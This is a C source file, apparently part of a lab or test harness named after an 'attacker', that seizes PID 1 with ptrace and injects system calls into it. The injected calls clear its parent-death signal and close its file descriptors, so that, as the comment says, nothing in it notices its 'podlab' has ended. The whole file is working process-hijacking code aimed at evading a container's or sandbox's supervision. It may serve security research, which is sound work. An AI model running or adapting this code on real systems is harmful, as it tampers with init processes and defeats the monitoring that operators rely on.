// Takes PID 1 over, so that nothing in it can notice that its podlab has ended.
#include "attacker.h"

#include <fcntl.h>
#include <linux/ptrace.h>
#include <linux/prctl.h>
#include <linux/signal.h>

#if defined(__x86_64__)
#include <sys/user.h>

enum { FIRST = 1, INSTRUCTION = 2, ALL_KINDS = 0x40000000 /* __WALL */, OF_A_CALL = SIGTRAP | 0x80 };

// What it has stopped for, or -1: it is gone.
static int wait_for_stop(void) {
    int status = 0;
    return CALL(__NR_wait4, FIRST, &status, ALL_KINDS, 0) == FIRST ? status >> 8 & 0xff : -1;
}

// Lets it run to the next entry of a system call, or from there to the end of it. Signals that come meanwhile are dropped.
static void run_to_call(void) {
    int stop;
    do {
        CALL(__NR_ptrace, PTRACE_SYSCALL, FIRST, 0, 0);
        stop = wait_for_stop();
    } while (stop >= 0 && stop != OF_A_CALL);
}

// It may have been interrupted anywhere. Behind this it stands behind the instruction of a system call, which was not made.
static void stand_behind_a_call(void) {
    struct user_regs_struct registers;
    run_to_call();
    CALL(__NR_ptrace, PTRACE_GETREGS, FIRST, 0, &registers);
    registers.orig_rax = ~0UL;
    CALL(__NR_ptrace, PTRACE_SETREGS, FIRST, 0, &registers);
    run_to_call();
}

// Has it make a system call.
static long make(long number, long a, long b) {
    struct user_regs_struct before, changed;
    if (CALL(__NR_ptrace, PTRACE_GETREGS, FIRST, 0, &before) < 0) {
        return -1;
    }
    changed = before;
    changed.rip -= INSTRUCTION;
    changed.rax = (unsigned long)number;
    changed.orig_rax = ~0UL; // no restart of the interrupted call
    changed.rdi = (unsigned long)a;
    changed.rsi = (unsigned long)b;
    CALL(__NR_ptrace, PTRACE_SETREGS, FIRST, 0, &changed);
    CALL(__NR_ptrace, PTRACE_SINGLESTEP, FIRST, 0, 0);
    wait_for_stop();
    CALL(__NR_ptrace, PTRACE_GETREGS, FIRST, 0, &changed);
    return (long)changed.rax;
}

void take_over(void) {
    long seized = CALL(__NR_ptrace, PTRACE_SEIZE, FIRST, 0, PTRACE_O_TRACESYSGOOD);
    if (seized < 0) {
        say("not seized: ");
        say_number(seized);
        say("\n");
        end(1);
    }
    CALL(__NR_ptrace, PTRACE_INTERRUPT, FIRST, 0, 0);
    wait_for_stop();
    stand_behind_a_call();
    long result = make(__NR_prctl, PR_SET_PDEATHSIG, 0);
    for (int fd = 0; fd < 16; fd++) {
        make(__NR_close, fd, 0);
    }
    say(result == 0 ? "taken\n" : "the call was not made\n");
    for (;;) {
        CALL(__NR_pause);
    }
}
#else
void take_over(void) {
    say("not written for this architecture\n");
    end(3);
}
#endif
